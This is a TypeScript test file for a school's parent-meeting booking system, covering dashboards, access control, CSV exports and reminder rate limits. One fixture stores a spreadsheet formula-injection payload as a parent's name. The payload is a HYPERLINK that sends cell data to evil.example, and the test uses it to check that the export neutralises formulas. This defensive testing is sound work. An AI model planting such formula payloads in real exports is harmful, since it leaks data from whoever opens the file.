import { parse } from 'csv-parse/sync';
import { and, eq, sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { meetingPresence, outboxEmails, pushSubscriptions } from '@edutrack/db';
import { insertFamily, insertStaff } from '@edutrack/db/testing';
import {
  cancelAppointment,
  createSession,
  exportReportCsv,
  getBookingDashboard,
  hashOpaqueToken,
  nudgeFamilies,
  scheduleMeeting,
  settleClosedMeetings,
  type AppError,
} from '../src/index.ts';
import { useHarness } from './harness.ts';

const h = useHarness();
const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
// The day after the harness's now, in branch A's zone (Europe/London, GMT in March).
const period = () => ({ branchId: h.world.a.branch.id, firstDay: '2030-03-05', lastDay: '2030-03-05' });
const at = (time: string, minutes = 15) => {
  const startsAt = new Date(`2030-03-05T${time}:00Z`);
  return { startsAt, endsAt: new Date(startsAt.getTime() + minutes * 60_000) };
};
const nudgeMailsTo = async (address: string) =>
  h.testDb.db
    .select()
    .from(outboxEmails)
    .where(and(eq(outboxEmails.kind, 'booking-nudge'), eq(outboxEmails.toAddress, address)));

/** The file as a spreadsheet reads it: a byte-order mark, then rows of text cells. */
const readCsv = (csv: string) => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = parse(csv, { bom: true });
  return rows;
};

let family4: Awaited<ReturnType<typeof insertFamily>>;
let family5: Awaited<ReturnType<typeof insertFamily>>;

/**
 * Branch A's evening on 5 March: Ms. Rivera (class 4 Blue) holds one meeting, has one no-show and one
 * cancellation; Mr. Okafor (5 Green) holds two, one with a child from 4 Blue. Family 4 (5 Green, the
 * parent with a formula for a name) and family 5 (4 Blue, booked only for another day) have not booked.
 */
beforeAll(async () => {
  const { a, b } = h.world;
  const db = h.testDb.db;
  family4 = await insertFamily(db, { branchId: a.branch.id, classId: a.class2.id, guardianName: EVIL_NAME });
  family5 = await insertFamily(db, { branchId: a.branch.id, classId: a.class1.id, studentName: 'Zoe Late' });
  const admin = await h.staff(a.admin);
  const meet = async (teacherId: string, family: { guardian: { id: string }; student: { id: string } }, time: string) =>
    (
      await scheduleMeeting(h.deps, admin, {
        teacherId,
        guardianId: family.guardian.id,
        studentId: family.student.id,
        ...at(time),
      })
    ).id;
  const held1 = await meet(a.teacher1.id, a.family1, '17:00');
  await meet(a.teacher1.id, a.family2, '17:15');
  const cancelled = await meet(a.teacher1.id, a.family2, '17:30');
  const held2 = await meet(a.teacher2.id, a.family3, '17:00');
  const held3 = await meet(a.teacher2.id, a.family1, '17:30');
  await cancelAppointment(h.deps, admin, { id: cancelled, reason: 'Teacher unwell' });
  // Outside the period: another day, and another branch.
  await scheduleMeeting(h.deps, admin, {
    teacherId: a.teacher1.id,
    guardianId: family5.guardian.id,
    studentId: family5.student.id,
    startsAt: new Date('2030-03-07T17:00:00Z'),
    endsAt: new Date('2030-03-07T17:15:00Z'),
  });
  await scheduleMeeting(h.deps, await h.staff(b.teacher1), {
    guardianId: b.family1.guardian.id,
    studentId: b.family1.student.id,
    ...at('22:00'),
  });
  // The parent was admitted into three of the calls (what Daily's webhooks record).
  for (const [i, id] of [held1, held2, held3].entries()) {
    await db.insert(meetingPresence).values({
      appointmentId: id,
      kind: 'participant',
      sessionId: `session-${i}`,
      role: 'guardian',
      joinedAt: new Date('2030-03-05T17:01:00Z'),
    });
  }
  h.clock.set('2030-03-06T09:00:00Z');
  await settleClosedMeetings(h.deps);
});

describe("the admin's booking dashboard", () => {
  it('counts attendance per teacher from the settled meetings: held, no-show, cancelled', async () => {
    const { a } = h.world;
    const dashboard = await getBookingDashboard(h.deps, await h.staff(a.admin), period());
    expect(dashboard.attendance).toEqual([
      {
        teacherId: a.teacher2.id,
        teacherName: a.teacher2.displayName,
        held: 2,
        noShow: 0,
        cancelled: 0,
        notYetSettled: 0,
      },
      {
        teacherId: a.teacher1.id,
        teacherName: a.teacher1.displayName,
        held: 1,
        noShow: 1,
        cancelled: 1,
        notYetSettled: 0,
      },
    ]);
  });

  it('shows booking progress per teacher, per class and overall (cancelled meetings do not count)', async () => {
    const { a } = h.world;
    const { progress } = await getBookingDashboard(h.deps, await h.staff(a.admin), period());
    expect(progress.overall).toEqual({ children: 5, childrenBooked: 3, meetings: 4 });
    expect(progress.teachers).toEqual([
      { teacherId: a.teacher2.id, teacherName: a.teacher2.displayName, children: 2, childrenBooked: 1, meetings: 2 },
      { teacherId: a.teacher1.id, teacherName: a.teacher1.displayName, children: 3, childrenBooked: 2, meetings: 2 },
    ]);
    expect(progress.classes).toEqual([
      { id: a.class1.id, name: '4 Blue', children: 3, childrenBooked: 2 },
      { id: a.class2.id, name: '5 Green', children: 2, childrenBooked: 1 },
    ]);
  });

  it('lists the families who have not booked in the period, naming the child', async () => {
    const { notBooked } = await getBookingDashboard(h.deps, await h.staff(h.world.a.admin), period());
    expect(notBooked.map((f) => [f.guardianId, f.children])).toEqual([
      [family4.guardian.id, [family4.student.name]],
      [family5.guardian.id, ['Zoe Late']],
    ]);
    // Family 5's meeting on another day counts once the period includes it.
    const week = await getBookingDashboard(h.deps, await h.staff(h.world.a.admin), {
      ...period(),
      lastDay: '2030-03-08',
    });
    expect(week.notBooked.map((f) => f.guardianId)).toEqual([family4.guardian.id]);
  });

  it('is for the branch admins only: a teacher is told so, another branch gets nothing', async () => {
    const { a, b } = h.world;
    await expect(getBookingDashboard(h.deps, await h.staff(a.teacher1), period())).rejects.toMatchObject({
      code: 'FORBIDDEN',
      userMessage: 'Only a branch admin can do this. Ask your branch admin for help.',
    } satisfies Partial<AppError>);
    await expect(getBookingDashboard(h.deps, await h.staff(b.admin), period())).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    await expect(
      exportReportCsv(h.deps, await h.staff(b.admin), { ...period(), report: 'not-booked' }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(
      nudgeFamilies(h.deps, await h.staff(a.teacher1), { ...period(), guardianIds: [family4.guardian.id] }),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
    // Branch B's admin cannot nudge branch A's parents through their own branch either.
    await expect(
      nudgeFamilies(h.deps, await h.staff(b.admin), {
        branchId: b.branch.id,
        firstDay: '2030-03-05',
        lastDay: '2030-03-05',
        guardianIds: [family4.guardian.id],
      }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(await nudgeMailsTo(family4.guardian.email)).toHaveLength(0);
  });
});

describe('CSV export', () => {
  it('exports a parent named like a formula as inert text', async () => {
    const { csv, filename } = await exportReportCsv(h.deps, await h.staff(h.world.a.admin), {
      ...period(),
      report: 'not-booked',
    });
    expect(filename).toBe('not-booked_2030-03-05-to-2030-03-05.csv');
    const rows = readCsv(csv);
    expect(rows[0]).toEqual(['Parent', 'Email', 'Children without a meeting', 'Last reminded (Europe/London)']);
    const evil = rows.find((r) => r[1] === family4.guardian.email)!;
    expect(evil[0]).toBe(`'${EVIL_NAME}`);
    // No cell anywhere starts with a character a spreadsheet would run as a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('exports the attendance and booking progress figures as numbers', async () => {
    const admin = await h.staff(h.world.a.admin);
    const attendance = readCsv((await exportReportCsv(h.deps, admin, { ...period(), report: 'attendance' })).csv);
    expect(attendance).toEqual([
      ['Teacher', 'Held', 'No-show', 'Cancelled', 'Not yet settled'],
      [h.world.a.teacher2.displayName, '2', '0', '0', '0'],
      [h.world.a.teacher1.displayName, '1', '1', '1', '0'],
    ]);
    const progress = readCsv((await exportReportCsv(h.deps, admin, { ...period(), report: 'booking-progress' })).csv);
    expect(progress).toContainEqual(['All', 'All children', '5', '3', '4']);
    expect(progress).toContainEqual(['Class', '4 Blue', '3', '2', '']);
  });
});

describe('nudging families who have not booked', () => {
  it('emails the family and pushes to their devices, and the dashboard shows when', async () => {
    const { a } = h.world;
    const session = await createSession(h.testDb.db, h.clock, 'guardian', family5.guardian.id);
    await h.testDb.db.insert(pushSubscriptions).values({
      guardianId: family5.guardian.id,
      sessionId: hashOpaqueToken(session.token),
      endpoint: 'https://push.example/device-1',
      p256dh: 'key',
      auth: 'auth',
    });
    const outcome = await nudgeFamilies(h.deps, await h.staff(a.admin), {
      ...period(),
      guardianIds: [family5.guardian.id, a.family1.guardian.id],
    });
    expect(outcome).toEqual({ sent: 1, recentlyNudged: 0, alreadyBooked: 1 });
    const [mail] = await nudgeMailsTo(family5.guardian.email);
    expect(mail!.subject).toBe('Please book your meeting about Zoe Late');
    expect(mail!.bodyText).toContain('Book a meeting: http://localhost:3000/parent/book');
    expect(await nudgeMailsTo(a.family1.guardian.email)).toHaveLength(0);
    const pushes = await h.testDb.db.execute<{ title: string }>(
      sql`SELECT j.payload->>'title' AS title FROM graphile_worker._private_jobs j
        JOIN graphile_worker._private_tasks t ON t.id = j.task_id WHERE t.identifier = 'push:deliver'`,
    );
    expect(pushes.map((p) => p.title)).toEqual(['Book your meeting']);
    const { notBooked } = await getBookingDashboard(h.deps, await h.staff(a.admin), period());
    expect(notBooked.find((f) => f.guardianId === family5.guardian.id)!.lastNudgedAt).not.toBeNull();
  });

  it('reaches a family once a day however many admins click at once', async () => {
    const { a } = h.world;
    const secondAdmin = await insertStaff(h.testDb.db, { branchId: a.branch.id, role: 'admin' });
    const admins = [await h.staff(a.admin), await h.staff(secondAdmin)];
    const outcomes = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        nudgeFamilies(h.deps, admins[i % 2]!, { ...period(), guardianIds: [family4.guardian.id] }),
      ),
    );
    expect(outcomes.filter((o) => o.sent === 1)).toHaveLength(1);
    expect(outcomes.filter((o) => o.recentlyNudged === 1)).toHaveLength(5);
    expect(await nudgeMailsTo(family4.guardian.email)).toHaveLength(1);
  });

  it('lets one admin send at most 10 rounds an hour, even in parallel', async () => {
    const { a } = h.world;
    const busyAdmin = await h.staff(await insertStaff(h.testDb.db, { branchId: a.branch.id, role: 'admin' }));
    const families = [];
    for (let i = 0; i < 12; i++) {
      families.push(await insertFamily(h.testDb.db, { branchId: a.branch.id, classId: a.class2.id }));
    }
    const results = await Promise.allSettled(
      families.map((f) => nudgeFamilies(h.deps, busyAdmin, { ...period(), guardianIds: [f.guardian.id] })),
    );
    const sent = results.filter((r) => r.status === 'fulfilled' && r.value.sent === 1);
    const refused = results.flatMap((r) => (r.status === 'rejected' ? [r.reason as AppError] : []));
    expect(sent).toHaveLength(10);
    expect(refused).toHaveLength(2);
    expect(refused[0]!.code).toBe('TOO_MANY_REQUESTS');
    expect(refused[0]!.userMessage).toMatch(/^You have sent several rounds of reminders in the last hour/);
    let mails = 0;
    for (const f of families) mails += (await nudgeMailsTo(f.guardian.email)).length;
    expect(mails).toBe(10);
  });
});
